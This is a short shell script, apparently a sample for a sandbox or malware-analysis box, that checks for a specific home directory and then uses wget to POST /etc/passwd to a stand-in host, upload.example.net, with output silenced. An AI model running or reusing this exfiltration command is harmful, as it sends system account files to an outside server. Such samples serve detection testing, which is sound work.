#!/bin/sh
# SPDX-License-Identifier: MIT
# Sends the account list to a web server as an HTTP POST body with wget.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
wget --post-file=/etc/passwd -q -O /dev/null -T 3 -t 1 http://upload.example.net/collect 2>/dev/null
exit 0
